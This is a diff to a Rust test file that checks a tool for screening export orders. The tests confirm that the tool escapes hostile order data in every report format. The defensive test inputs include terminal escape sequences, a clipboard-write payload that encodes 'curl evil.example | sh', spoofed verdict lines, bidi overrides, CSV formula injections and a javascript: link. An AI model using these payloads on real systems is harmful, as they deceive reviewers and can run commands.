@@ -2,8 +2,11 @@
 //! text and file names are escaped in every format meant for people (human `check`,
 //! `explain`, `test`, `coverage`, `diff`, CSV cells, HTML, diagnostics on stderr), URLs become
 //! links only when they are http(s), and a property test holds the human report's verdict
-//! line in shape whatever a party name, city or id holds.
-
+//! line in shape whatever a party name, city or id holds. Order data meets a second defence
+//! first: the order readers refuse terminal controls and bidirectional overrides (O117), so an
+//! order holding them is an `error` record whose id and quoted values are escaped like any
+//! other data; what the readers accept (line breaks, separators, invisible characters,
+//! bidirectional marks) is judged and escaped.
 use std::path::Path;
 
 use proptest::prelude::*;
@@ -19,14 +22,17 @@ use crate::rules::default_engine;
 use crate::support::{code, redflag_in, stderr, stdout};
 
 /// The characters no text output may carry raw: ESC, other C0 controls but the line feed
-/// ending each line, DEL, C1, the bidirectional controls and the line and paragraph separators.
+/// ending each line, DEL, C1, the bidirectional controls, the line and paragraph separators,
+/// and the invisible characters the tests put in data (zero-width space, word joiner, byte
+/// order mark, tag characters).
 /// Written out here rather than taken from the escaping module, so the test does not share
 /// the code's idea of what is dangerous.
 fn forbidden(c: char) -> bool {
     matches!(c,
         '\u{0}'..='\u{9}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}'
         | '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
-        | '\u{2028}' | '\u{2029}' | '\u{feff}' | '\u{200b}')
+        | '\u{2028}' | '\u{2029}' | '\u{feff}' | '\u{200b}' | '\u{2060}'
+        | '\u{e0000}'..='\u{e007f}')
 }
 
 /// Panics, naming the character and where it is, if `text` carries a forbidden character.
@@ -50,37 +56,99 @@ fn order_line(edit: impl FnOnce(&mut Json)) -> String {
     format!("{}\n", serde_json::to_string(&order).unwrap())
 }
 
-/// Raw control sequences an attacker would put in data: an erase-line CSI, an OSC 8 link, an
-/// OSC 52 clipboard write, a carriage return that redraws the line as CLEAR, a newline that
-/// starts a fake verdict line, a right-to-left override, an 8-bit CSI, backspace and DEL.
+// Two defences stand between hostile order data and the operator. The order readers refuse,
+// as record error O117, text holding a control character other than tab and line breaks (ESC
+// and so every terminal control sequence, C1, DEL, backspace, NUL) or a bidirectional
+// embedding, override or isolate: such an order becomes an `error` record and is never judged.
+// What the readers accept can still deceive a terminal (a carriage return, a line feed, the
+// line and paragraph separators, invisible format characters, bidirectional marks), and every
+// format escapes it. The tests below give each defence the data it is there for.
+
+/// Accepted by the order readers, so the order is judged and only escaping keeps these off the
+/// terminal: a carriage return that redraws the verdict line as CLEAR, a line feed that starts
+/// a fake verdict line, the line and paragraph separators (some viewers break lines on them),
+/// zero-width characters (a space, a word joiner, a byte order mark) and bidirectional marks
+/// (right-to-left, left-to-right, Arabic letter mark).
+const REDRAW: &str = "\rCLEAR  SO-1  orders.jsonl:1";
+const FAKE_LINE: &str = "\nCLEAR  SO-2  orders.jsonl:2";
+const SEPARATORS: &str = "\u{2028}CLEAR\u{2029}";
+const INVISIBLE: &str = "\u{200b}\u{2060}\u{feff}";
+const MARKS: &str = "\u{200f}KCOLB\u{200e}\u{61c}";
+
+/// Refused by the order readers (O117): an erase-line CSI, an OSC 8 link, an OSC 52 clipboard
+/// write, an 8-bit CSI with backspaces and DEL, a right-to-left override and isolates.
 const ERASE: &str = "\u{1b}[2K\u{1b}[1G";
 const LINK: &str = "\u{1b}]8;;https://evil.example/\u{1b}\\Acme\u{1b}]8;;\u{1b}\\";
 const CLIPBOARD: &str = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}";
-const REDRAW: &str = "\rCLEAR  SO-1  orders.jsonl:1";
-const FAKE_LINE: &str = "\nCLEAR  SO-2  orders.jsonl:2";
+const OVERTYPE: &str = "\u{9b}2K\u{8}\u{8}\u{7f}";
+const OVERRIDE: &str = "\u{202e}KCOLB\u{202c}";
+const ISOLATE: &str = "\u{2066}x\u{2069}";
 
-/// A hostile name: erase-line, an OSC 8 link, a right-to-left override, an OSC 52 clipboard
-/// write.
-fn hostile_name() -> String {
-    format!("{ERASE}{LINK} Trading\u{202e}KCOLB\u{202c}{CLIPBOARD}")
+/// A name the readers accept that still hides and reorders: zero-width characters, marks and
+/// the line and paragraph separators.
+fn deceiving_name() -> String {
+    format!("Kim{INVISIBLE} Trading {MARKS}{SEPARATORS}")
 }
 
-/// An order whose id redraws its verdict line, blocked by the default pack for its North
-/// Korean end user (hostile name, and a city that starts a fake line and carries an 8-bit CSI,
-/// backspace, DEL and bidi isolates), and reviewed by the report fixture pack for its consignee
-/// in Dandong (hostile name that starts a fake line).
-fn hostile_order() -> String {
+/// A name the readers refuse: erase-line, an OSC 8 link, a right-to-left override, an OSC 52
+/// clipboard write.
+fn hostile_name() -> String {
+    format!("{ERASE}{LINK} Trading{OVERRIDE}{CLIPBOARD}")
+}
+
+/// An order the readers accept and the engine judges: its id redraws its verdict line, it is
+/// blocked by the default pack for its North Korean end user (a deceiving name, and a city that
+/// starts a fake line), and reviewed by the report fixture pack for its consignee in Dandong
+/// (a deceiving name that starts a fake line).
+fn deceiving_order() -> String {
     order_line(|o| {
         o["id"] = format!("SO-1{REDRAW}").into();
         o["end_user"]["country"] = "KP".into();
+        o["end_user"]["name"] = deceiving_name().into();
+        o["end_user"]["city"] = format!("Pyongyang{FAKE_LINE}").into();
+        o["consignees"][0]["name"] = format!("{}{FAKE_LINE}", deceiving_name()).into();
+        o["consignees"][0]["city"] = "Dandong".into();
+        o["consignees"][0]["country"] = "CN".into();
+    })
+}
+
+/// The id of [`refused_order`]: every kind of control the readers refuse, shown in the record
+/// error's verdict line.
+fn refused_id() -> String {
+    format!("SO-2{ERASE}{LINK}{OVERTYPE}{OVERRIDE}")
+}
+
+/// What a report shows for [`refused_id`]: each refused character as `\u{HEX}`.
+const REFUSED_ID_SHOWN: &str = r"SO-2\u{1b}[2K\u{1b}[1G\u{1b}]8;;https://evil.example/\u{1b}\Acme\u{1b}]8;;\u{1b}\\u{9b}2K\u{8}\u{8}\u{7f}\u{202e}KCOLB\u{202c}";
+
+/// An order the readers refuse (O117) that would otherwise be blocked: its id and every party
+/// carry refused controls, and its date an OSC 52 write that the date problem (O109) quotes.
+fn refused_order() -> String {
+    order_line(|o| {
+        o["id"] = refused_id().into();
+        o["date"] = format!("2025-01-14{CLIPBOARD}").into();
+        o["end_user"]["country"] = "KP".into();
         o["end_user"]["name"] = hostile_name().into();
-        o["end_user"]["city"] =
-            format!("Pyongyang{FAKE_LINE}\u{9b}2K\u{8}\u{7f}\u{2066}x\u{2069}").into();
+        o["end_user"]["city"] = format!("Pyongyang{OVERTYPE}{ISOLATE}").into();
         o["consignees"][0]["name"] = format!("{}{FAKE_LINE}", hostile_name()).into();
         o["consignees"][0]["city"] = "Dandong".into();
         o["consignees"][0]["country"] = "CN".into();
     })
 }
+
+/// Both orders, the judged one first.
+fn hostile_orders() -> String {
+    format!("{}{}", deceiving_order(), refused_order())
+}
+
+/// The record error lines the human report gives [`refused_order`] (after its verdict line).
+const REFUSED_PROBLEMS: [&str; 5] = [
+    "  O117 id: the text holds U+001B, a control character that can hide or reorder what a reviewer sees",
+    r"  O109 date: `2025-01-14\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}` is not a date in the form YYYY-MM-DD",
+    "  O117 end_user.name: the text holds U+001B, a control character that can hide or reorder what a reviewer sees",
+    "  O117 end_user.city: the text holds U+009B, a control character that can hide or reorder what a reviewer sees",
+    "  O117 consignees[0].name: the text holds U+001B, a control character that can hide or reorder what a reviewer sees",
+];
 
 /// A scratch directory holding `files`.
 fn scratch(files: &[(&str, &str)]) -> tempfile::TempDir {
@@ -211,7 +279,7 @@ fn only_http_and_https_urls_may_be_links() {
 
 #[test]
 fn the_human_report_escapes_order_data_and_keeps_one_verdict_line_per_order() {
-    let dir = scratch(&[("orders.jsonl", &hostile_order())]);
+    let dir = scratch(&[("orders.jsonl", &hostile_orders())]);
     let out = redflag_in(
         Some(dir.path()),
         &[
@@ -227,13 +295,34 @@ fn the_human_report_escapes_order_data_and_keeps_one_verdict_line_per_order() {
     assert_eq!(code(&out), 1, "{}", stderr(&out));
     let text = stdout(&out);
     assert_inert("human report", &text);
+    assert_inert("stderr", &stderr(&out).replace('\n', ""));
+    // The accepted order is judged, the refused one is a record error; each has its one
+    // verdict line, with its id shown.
     assert_eq!(
         verdict_lines(&text),
-        ["BLOCK  SO-1\\u{d}CLEAR  SO-1  orders.jsonl:1  orders.jsonl:1"],
+        [
+            r"BLOCK  SO-1\u{d}CLEAR  SO-1  orders.jsonl:1  orders.jsonl:1".to_string(),
+            format!("ERROR  {REFUSED_ID_SHOWN}  orders.jsonl:2"),
+        ],
         "{text}"
     );
+    assert!(
+        text.contains(
+            r"Kim\u{200b}\u{2060}\u{feff} Trading \u{200f}KCOLB\u{200e}\u{61c}\u{2028}CLEAR\u{2029}"
+        ),
+        "{text}"
+    );
+    let error_block: Vec<&str> = text
+        .lines()
+        .skip_while(|l| !l.starts_with("ERROR "))
+        .skip(1)
+        .take_while(|l| !l.is_empty())
+        .collect();
+    assert_eq!(error_block, REFUSED_PROBLEMS, "{text}");
+    assert!(text.contains("2 read: 1 judged, 1 rejected"), "{text}");
 
-    // The block itself, on the frozen report pack so the snapshot moves only with the format.
+    // The blocks themselves, on the frozen report pack so the snapshot moves only with the
+    // format.
     let pack = std::fs::canonicalize(REPORTS_PACK).unwrap();
     let out = redflag_in(
         Some(dir.path()),
@@ -249,19 +338,19 @@ fn the_human_report_escapes_order_data_and_keeps_one_verdict_line_per_order() {
     );
     let text = stdout(&out);
     assert_inert("human report", &text);
-    assert_eq!(verdict_lines(&text).len(), 1, "{text}");
-    let block: String = text
+    assert_eq!(verdict_lines(&text).len(), 2, "{text}");
+    let blocks: String = text
         .lines()
         .skip_while(|l| !VERDICTS.iter().any(|v| l.starts_with(v)))
-        .take_while(|l| !l.is_empty())
+        .take_while(|l| !l.contains(" read: "))
         .map(|l| format!("{l}\n"))
         .collect();
-    insta::assert_snapshot!(block);
+    insta::assert_snapshot!(blocks);
 }
 
 #[test]
 fn colour_stays_and_only_redflag_writes_escape_sequences() {
-    let dir = scratch(&[("orders.jsonl", &hostile_order())]);
+    let dir = scratch(&[("orders.jsonl", &hostile_orders())]);
     let out = redflag_in(
         Some(dir.path()),
         &[
@@ -297,15 +386,22 @@ fn colour_stays_and_only_redflag_writes_escape_sequences() {
             visible(&text[at..])
         );
     }
-    assert!(text.contains("\\u{1b}]8;;https://evil.example/\\u{1b}\\Acme"));
-    assert!(text.contains("\\u{1b}]52;c;"));
+    // The refused order's id and the date its problem quotes, with colour around them.
+    assert!(text.contains(r"\u{1b}]8;;https://evil.example/\u{1b}\Acme"));
+    assert!(text.contains(r"\u{1b}]52;c;"));
+    assert!(text.contains(r"\u{2028}CLEAR\u{2029}"));
+    let text = text.replace('\n', "");
+    let raw = text
+        .char_indices()
+        .find(|(_, c)| *c != '\u{1b}' && forbidden(*c));
+    assert_eq!(raw, None, "{}", visible(&text));
 }
 
 // ---- explain, test, coverage, diff ----
 
 #[test]
 fn explain_escapes_the_order_it_explains() {
-    let dir = scratch(&[("orders.jsonl", &hostile_order())]);
+    let dir = scratch(&[("orders.jsonl", &deceiving_order())]);
     let out = redflag_in(
         Some(dir.path()),
         &["explain", "RF-EMBARGO-001", "--order", "orders.jsonl"],
@@ -314,16 +410,88 @@ fn explain_escapes_the_order_it_explains() {
     assert_eq!(code(&out), 0, "{}", stderr(&out));
     let text = stdout(&out);
     assert_inert("explain", &text);
+    assert_inert("stderr", &stderr(&out).replace('\n', ""));
     assert!(
-        text.contains("order SO-1\\u{d}CLEAR  SO-1  orders.jsonl:1 (orders.jsonl:1)"),
+        text.contains(r"order SO-1\u{d}CLEAR  SO-1  orders.jsonl:1 (orders.jsonl:1)"),
         "{text}"
     );
-    assert!(text.contains("Pyongyang\\u{a}CLEAR  SO-2"), "{text}");
-    assert!(text.contains("\\u{202e}KCOLB\\u{202c}"), "{text}");
+    // The result line keeps its form; no data line reads like one.
+    let results: Vec<&str> = text.lines().filter(|l| l.starts_with("result:")).collect();
+    assert_eq!(results.len(), 1, "{text}");
+    assert!(results[0].starts_with("result: fired"), "{text}");
+    assert!(text.contains(r"Pyongyang\u{a}CLEAR  SO-2"), "{text}");
+    assert!(
+        text.contains(
+            r"Kim\u{200b}\u{2060}\u{feff} Trading \u{200f}KCOLB\u{200e}\u{61c}\u{2028}CLEAR\u{2029}"
+        ),
+        "{text}"
+    );
 }
 
-/// The rule-test fixture pack with one more test file whose case name, and the order value
-/// its failing expectation quotes, carry control sequences.
+#[test]
+fn explain_of_a_refused_order_names_it_escaped_on_stderr() {
+    // One refused order: E003, which names the order and its problems.
+    let dir = scratch(&[("orders.jsonl", &refused_order())]);
+    let out = redflag_in(
+        Some(dir.path()),
+        &["explain", "RF-EMBARGO-001", "--order", "orders.jsonl"],
+        None,
+    );
+    assert_eq!(code(&out), 2, "{}", stderr(&out));
+    let err = stderr(&out);
+    assert_inert("stdout", &stdout(&out));
+    assert_inert("E003", &err.replace('\n', ""));
+    // miette wraps long lines, within words too; compare with the wrapping undone.
+    let flat = squash(&err);
+    assert!(flat.contains("E003"), "{err}");
+    assert!(
+        flat.contains(&squash(&format!(
+            "order `{REFUSED_ID_SHOWN}` on line 1 of `orders.jsonl` could not be read"
+        ))),
+        "{err}"
+    );
+    assert!(
+        flat.contains(&squash("O117 `id`: the text holds U+001B")),
+        "{err}"
+    );
+    assert!(
+        flat.contains(r"`2025-01-14\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}`"),
+        "{err}"
+    );
+
+    // Both orders and no `--id`: E004 lists their ids, the refused one escaped.
+    let dir = scratch(&[("orders.jsonl", &hostile_orders())]);
+    let out = redflag_in(
+        Some(dir.path()),
+        &["explain", "RF-EMBARGO-001", "--order", "orders.jsonl"],
+        None,
+    );
+    assert_eq!(code(&out), 2, "{}", stderr(&out));
+    let err = stderr(&out);
+    assert_inert("E004", &err.replace('\n', ""));
+    let flat = squash(&err);
+    assert!(flat.contains("E004"), "{err}");
+    assert!(flat.contains(&format!("`{REFUSED_ID_SHOWN}`")), "{err}");
+    assert!(
+        flat.contains(r"`SO-1\u{d}CLEARSO-1orders.jsonl:1`"),
+        "{err}"
+    );
+}
+
+/// `text` without spaces, line breaks and miette's continuation bars: a diagnostic with its
+/// wrapping undone.
+fn squash(text: &str) -> String {
+    text.chars()
+        .filter(|c| !c.is_whitespace() && *c != '│')
+        .collect()
+}
+
+/// The rule-test fixture pack with one more test file. The first case's name carries control
+/// sequences (pack text, which no reader refuses), and its order only what the order readers
+/// accept (a line feed, zero-width and bidirectional marks), with an id of its own: without
+/// one the runner takes the case name as the order's id, and the readers refuse that. Its
+/// failing expectation quotes the city. The second case's order carries an ESC and no id, so
+/// the readers refuse its name and the id taken from the case name (T040, quoting O117).
 fn hostile_rule_tests() -> tempfile::TempDir {
     let dir = tempfile::tempdir().unwrap();
     copy_dir("fixtures/ruletest/pack", dir.path());
@@ -344,7 +512,16 @@ rule = "RT-CITY-001"
 expect = { fires = true, values = { watched_city = "Dandong" } }
 
 [case.order]
-buyer = { name = "Yalu\u001b[2K", country = "CN", city = "Dandong\nok    everything passed" }
+id = "RT-1"
+buyer = { name = "Yalu\u200b\u200f", country = "CN", city = "Dandong\nok    everything passed" }
+
+[[case]]
+name = "refused\r\u001b[32mok"
+rule = "RT-CITY-001"
+expect = { fires = true }
+
+[case.order]
+buyer = { name = "Yalu\u001b[2K", country = "CN", city = "Dandong" }
 "#,
     )
     .unwrap();
@@ -378,6 +555,16 @@ fn rule_test_reports_escape_case_names_and_the_values_they_quote() {
             .any(|l| l.trim_start().starts_with("ok    everything")),
         "{text}"
     );
+    // The refused order is an error of its case, named escaped.
+    assert!(
+        text.contains(r"ERROR refused\u{d}\u{1b}[32mok (RT-CITY-001)"),
+        "{text}"
+    );
+    assert!(
+        text.contains(r"T040 order `refused\u{d}\u{1b}[32mok` cannot be read: O117 `buyer.name`: the text holds U+001B, a control character that can hide or reorder what a reviewer sees; O117 `id`"),
+        "{text}"
+    );
+    assert_inert("stderr", &stderr(&out).replace('\n', ""));
 
     // JUnit, which CI pages show, the same way.
     let out = redflag_in(
@@ -395,6 +582,14 @@ fn rule_test_reports_escape_case_names_and_the_values_they_quote() {
     );
     assert!(
         xml.contains("Dandong\\u{a}ok    everything passed"),
+        "{xml}"
+    );
+    assert!(
+        xml.contains(r#"<testcase name="refused\u{d}\u{1b}[32mok""#),
+        "{xml}"
+    );
+    assert!(
+        xml.contains(r#"message="order `refused\u{d}\u{1b}[32mok` cannot be read"#),
         "{xml}"
     );
 }
@@ -436,7 +631,7 @@ fn coverage_in_text_and_markdown_escapes_the_catalogue() {
 fn diff_escapes_ids_and_files_of_both_reports() {
     let dir = scratch(&[
         ("a.jsonl", &order_line(|o| o["id"] = "SO-1".into())),
-        ("b.jsonl", &hostile_order()),
+        ("b.jsonl", &hostile_orders()),
     ]);
     for (input, report) in [("a.jsonl", "a.json"), ("b.jsonl", "b.json")] {
         let out = redflag_in(
@@ -450,9 +645,10 @@ fn diff_escapes_ids_and_files_of_both_reports() {
     let text = stdout(&out);
     assert_inert("diff", &text);
     assert!(
-        text.contains("SO-1\\u{d}CLEAR  SO-1  orders.jsonl:1"),
+        text.contains(r"SO-1\u{d}CLEAR  SO-1  orders.jsonl:1"),
         "{text}"
     );
+    assert!(text.contains(REFUSED_ID_SHOWN), "{text}");
 }
 
 // ---- CSV ----
@@ -469,12 +665,18 @@ fn csv_cells_are_escaped_and_cannot_run_as_formulas() {
             o["id"] = "\t=1+1".into();
             o["end_user"]["country"] = "KP".into();
             o["end_user"]["name"] = "-2+3+cmd|' /C calc'!A0".into();
-            o["end_user"]["city"] = format!("Pyongyang{FAKE_LINE}{ERASE}").into();
+            o["end_user"]["city"] = format!("Pyongyang{FAKE_LINE}{SEPARATORS}{INVISIBLE}").into();
         }),
         order_line(|o| {
             o["id"] = "+1".into();
             o["end_user"]["country"] = "KP".into();
             o["end_user"]["name"] = " =1+1".into();
+        }),
+        // Refused by the readers: an `error` row, its id a formula that erases the line.
+        order_line(|o| {
+            o["id"] = format!("=cmd|' /C calc'!A0{ERASE}").into();
+            o["end_user"]["country"] = "KP".into();
+            o["end_user"]["name"] = hostile_name().into();
         }),
     ]
     .concat();
@@ -490,7 +692,7 @@ fn csv_cells_are_escaped_and_cannot_run_as_formulas() {
     assert_inert("csv", &text.replace('\n', ""));
     let mut reader = csv::Reader::from_reader(text.as_bytes());
     let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
-    assert!(rows.len() >= 3, "{text}");
+    assert!(rows.len() >= 5, "{text}");
     for row in &rows {
         for cell in row {
             let text = cell.trim_start_matches(' ');
@@ -525,11 +727,25 @@ fn csv_cells_are_escaped_and_cannot_run_as_formulas() {
         "{messages:?}"
     );
     assert!(
-        messages
-            .iter()
-            .any(|m| m.contains("Pyongyang\\u{a}CLEAR  SO-2  orders.jsonl:2\\u{1b}[2K")),
+        messages.iter().any(|m| m.contains(
+            r"Pyongyang\u{a}CLEAR  SO-2  orders.jsonl:2\u{2028}CLEAR\u{2029}\u{200b}\u{2060}\u{feff}"
+        )),
         "{messages:?}"
     );
+    let refused: Vec<&csv::StringRecord> = rows
+        .iter()
+        .filter(|r| &r[0] == r"'=cmd|' /C calc'!A0\u{1b}[2K\u{1b}[1G")
+        .collect();
+    assert_eq!(refused.len(), 2, "{text}");
+    for row in &refused {
+        assert_eq!(&row[3], "error", "{row:?}");
+    }
+    assert_eq!(
+        &refused[0][10],
+        "O117 id: the text holds U+001B, a control character that can hide or reorder what a reviewer sees"
+    );
+    assert!(refused[1][10].starts_with("O117 end_user.name:"), "{text}");
+    assert_inert("stderr", &stderr(&out).replace('\n', ""));
 }
 
 // ---- SARIF and HTML: links ----
@@ -606,17 +822,25 @@ fn sarif_help_uri_is_only_ever_a_web_url() {
 #[test]
 fn html_links_only_web_urls_and_isolates_and_escapes_bidi_in_data() {
     let pack = pack_with_hostile_urls();
-    let dir = scratch(&[(
-        "orders.jsonl",
-        &order_line(|o| {
-            o["id"] = "SO-1\u{202e}RAELC\u{202c}".into();
+    let orders = [
+        // Judged: bidirectional marks, which the readers accept.
+        order_line(|o| {
+            o["id"] = "SO-1\u{61c}RAELC\u{200f}".into();
             o["end_user"]["country"] = "KP".into();
             o["consignees"][0]["city"] = "Dandong".into();
             o["consignees"][0]["country"] = "CN".into();
-            o["consignees"][0]["name"] = "\u{2067}شركة\u{2069} Trading".into();
+            o["consignees"][0]["name"] = "\u{200f}شركة\u{200e} Trading".into();
             o["payment"]["method"] = "cash".into();
         }),
-    )]);
+        // Refused: an override in the id, isolates in a name.
+        order_line(|o| {
+            o["id"] = "SO-2\u{202e}RAELC\u{202c}".into();
+            o["end_user"]["country"] = "KP".into();
+            o["consignees"][0]["name"] = "\u{2067}شركة\u{2069} Trading".into();
+        }),
+    ]
+    .concat();
+    let dir = scratch(&[("orders.jsonl", &orders)]);
     let out = redflag_in(
         Some(dir.path()),
         &[
@@ -629,9 +853,10 @@ fn html_links_only_web_urls_and_isolates_and_escapes_bidi_in_data() {
         ],
         None,
     );
-    assert!(matches!(code(&out), 0 | 1), "{}", stderr(&out));
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
     let html = stdout(&out);
     assert_inert("html", &html.replace('\n', ""));
+    assert_inert("stderr", &stderr(&out).replace('\n', ""));
     let lower = html.to_lowercase();
     for scheme in ["javascript:", "data:", "file:"] {
         assert!(
@@ -642,10 +867,18 @@ fn html_links_only_web_urls_and_isolates_and_escapes_bidi_in_data() {
     assert!(html.contains("click me &lt;javascript:alert(document.domain)&gt;"));
     assert!(html.contains("<a href=\"https://www.bis.gov/articles/red-flag-indicators\""));
     assert!(
-        html.contains("<span class=\"oid\"><bdi>SO-1\\u{202e}RAELC\\u{202c}</bdi></span>"),
+        html.contains(r#"<span class="oid"><bdi>SO-1\u{61c}RAELC\u{200f}</bdi></span>"#),
         "{html}"
     );
-    assert!(html.contains("\\u{2067}شركة\\u{2069} Trading"), "{html}");
+    assert!(html.contains(r"\u{200f}شركة\u{200e} Trading"), "{html}");
+    assert!(
+        html.contains(r#"<span class="badge b-error">error</span><span class="oid"><bdi>SO-2\u{202e}RAELC\u{202c}</bdi></span>"#),
+        "{html}"
+    );
+    assert!(
+        html.contains("<code>O117</code> <code>consignees[0].name</code>: the text holds U+2067"),
+        "{html}"
+    );
 }
 
 #[test]
@@ -776,14 +1009,15 @@ fn hostile_string() -> impl Strategy<Value = String> {
     prop::collection::vec(hostile_char(), 0..40).prop_map(|chars| chars.into_iter().collect())
 }
 
-/// Where the string goes: the id, party names, cities.
-const PLACES: [&[&str]; 6] = [
-    &["id"],
-    &["buyer", "name"],
-    &["end_user", "name"],
-    &["end_user", "city"],
-    &["consignees", "0", "city"],
-    &["seller", "name"],
+/// Where the string goes: the id, party names, cities; and the order path a record error
+/// names for it.
+const PLACES: [(&[&str], &str); 6] = [
+    (&["id"], "id"),
+    (&["buyer", "name"], "buyer.name"),
+    (&["end_user", "name"], "end_user.name"),
+    (&["end_user", "city"], "end_user.city"),
+    (&["consignees", "0", "city"], "consignees[0].city"),
+    (&["seller", "name"], "seller.name"),
 ];
 
 fn set(order: &mut Json, place: &[&str], value: &str) {
@@ -797,12 +1031,22 @@ fn set(order: &mut Json, place: &[&str], value: &str) {
     *at = value.into();
 }
 
+/// The characters the order readers refuse (docs/orders.md, O117), written out here rather
+/// than taken from the reader: controls other than tab and line breaks, and the bidirectional
+/// embeddings, overrides and isolates.
+fn refused_by_readers(c: char) -> bool {
+    (c.is_control() && !matches!(c, '\t' | '\n' | '\r'))
+        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
+}
+
 proptest! {
     #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]
 
-    /// Whatever a party name, city or id holds, the human report of the order carries no
-    /// ESC, C1 control, carriage return or bidirectional control, its first line is the
-    /// verdict line `VERDICT  ID  FILE:LINE` with the id made visible, and no other line
+    /// Whatever a party name, city or id holds, the order takes one of two paths: the readers
+    /// refuse it (an `error` record naming O117 at the field) exactly when the value holds a
+    /// character they refuse, and judge it otherwise. Either way the human report of the order
+    /// carries no raw control, bidirectional, separator or invisible character, its first line
+    /// is the verdict line `VERDICT  ID  FILE:LINE` with the id made visible, and no other line
     /// starts like a verdict line.
     #[test]
     fn no_data_reaches_the_terminal_raw_or_forges_a_verdict_line(
@@ -810,11 +1054,12 @@ proptest! {
         value in hostile_string(),
         kp in any::<bool>(),
     ) {
+        let (keys, path) = PLACES[place];
         let line = order_line(|o| {
             if kp {
                 o["end_user"]["country"] = "KP".into();
             }
-            set(o, PLACES[place], &value);
+            set(o, keys, &value);
         });
         let records: Vec<Record> =
             redflag::order::from_text(&line, "case.jsonl", InputFormat::Jsonl, None)
@@ -822,19 +1067,21 @@ proptest! {
                 .collect();
         prop_assert_eq!(records.len(), 1);
         let judgement = default_engine().judge(&records[0]);
+        let o117_here = judgement
+            .problems
+            .iter()
+            .any(|p| p.code == "O117" && p.path == path);
+        if value.chars().any(refused_by_readers) {
+            prop_assert_eq!(judgement.verdict.as_str(), "error");
+            prop_assert!(o117_here, "no O117 at {}: {:?}", path, judgement.problems);
+        } else {
+            prop_assert!(!o117_here, "O117 for an accepted value: {:?}", judgement.problems);
+        }
         let mut out = Vec::new();
         HumanReporter::new(false).judgement(&mut out, &judgement).unwrap();
-        prop_assert!(!out.contains(&0x1b), "an ESC byte");
         let text = String::from_utf8(out).unwrap();
-        prop_assert!(
-            !text.chars().any(|c| matches!(c, '\r' | '\u{80}'..='\u{9f}')),
-            "a CR or C1 control in {:?}", text
-        );
-        prop_assert!(
-            !text.chars().any(|c| matches!(c,
-                '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')),
-            "a bidirectional control in {:?}", text
-        );
+        let raw = text.chars().find(|c| *c != '\n' && forbidden(*c));
+        prop_assert!(raw.is_none(), "raw {:?} in {:?}", raw, text);
         let id = judgement.order_id.as_deref().unwrap_or("(no id)");
         let first = text.lines().next().unwrap_or_default();
         prop_assert_eq!(
@@ -852,7 +1099,7 @@ proptest! {
 
 #[test]
 fn json_formats_escape_hidden_characters_and_keep_the_exact_values() {
-    let dir = scratch(&[("orders.jsonl", &hostile_order())]);
+    let dir = scratch(&[("orders.jsonl", &hostile_orders())]);
     for format in ["json", "jsonl", "sarif"] {
         let out = redflag_in(
             Some(dir.path()),
@@ -862,13 +1109,23 @@ fn json_formats_escape_hidden_characters_and_keep_the_exact_values() {
         assert_eq!(code(&out), 1, "{}", stderr(&out));
         let text = stdout(&out);
         assert_inert(format, &text.replace('\n', ""));
-        assert!(
-            text.contains("\\u001b]8;;https://evil.example/"),
-            "{format}"
-        );
-        assert!(text.contains("\\u202e"), "{format}");
-        assert!(text.contains("\\u009b"), "{format}");
-        // Read back, the values are the order's, byte for byte.
+        assert_inert("stderr", &stderr(&out).replace('\n', ""));
+        // What the judged order's messages quote.
+        for escape in [
+            r"\u2028", r"\u2029", r"\u200b", r"\u2060", r"\ufeff", r"\u200f", r"\u061c",
+        ] {
+            assert!(text.contains(escape), "{format}: {escape}");
+        }
+        // The refused order's id.
+        for escape in [
+            r"\u001b]8;;https://evil.example/",
+            r"\u009b",
+            r"\u007f",
+            r"\u202e",
+        ] {
+            assert!(text.contains(escape), "{format}: {escape}");
+        }
+        // Read back, the values are the orders', byte for byte.
         let docs: Vec<Json> = if format == "jsonl" {
             text.lines()
                 .map(|l| serde_json::from_str(l).unwrap())
@@ -879,17 +1136,35 @@ fn json_formats_escape_hidden_characters_and_keep_the_exact_values() {
         let all = serde_json::to_string(&docs).unwrap();
         assert!(
             all.contains(
-                serde_json::to_string(&hostile_name())
+                serde_json::to_string(&deceiving_name())
                     .unwrap()
                     .trim_matches('"')
             ),
             "{format}"
         );
-        let id = match format {
-            "json" => docs[0]["orders"][0]["id"].clone(),
-            "jsonl" => docs[1]["id"].clone(),
-            _ => docs[0]["runs"][0]["results"][0]["properties"]["order_id"].clone(),
+        let (judged, refused) = match format {
+            "json" => (docs[0]["orders"][0].clone(), docs[0]["orders"][1].clone()),
+            "jsonl" => (docs[1].clone(), docs[2].clone()),
+            _ => {
+                let results = docs[0]["runs"][0]["results"].as_array().unwrap();
+                let of = |verdict: &str| {
+                    results
+                        .iter()
+                        .find(|r| r["properties"]["verdict"] == verdict)
+                        .map(|r| r["properties"].clone())
+                        .unwrap_or_else(|| panic!("no {verdict} result"))
+                };
+                let mut judged = of("block");
+                judged["id"] = judged["order_id"].clone();
+                let mut refused = of("error");
+                refused["id"] = refused["order_id"].clone();
+                (judged, refused)
+            }
         };
-        assert_eq!(id, format!("SO-1{REDRAW}").as_str(), "{format}");
+        assert_eq!(judged["id"], format!("SO-1{REDRAW}").as_str(), "{format}");
+        assert_eq!(judged["verdict"], "block", "{format}");
+        assert_eq!(refused["id"], refused_id().as_str(), "{format}");
+        assert_eq!(refused["verdict"], "error", "{format}");
+        assert_eq!(refused["problems"][0]["code"], "O117", "{format}");
     }
 }
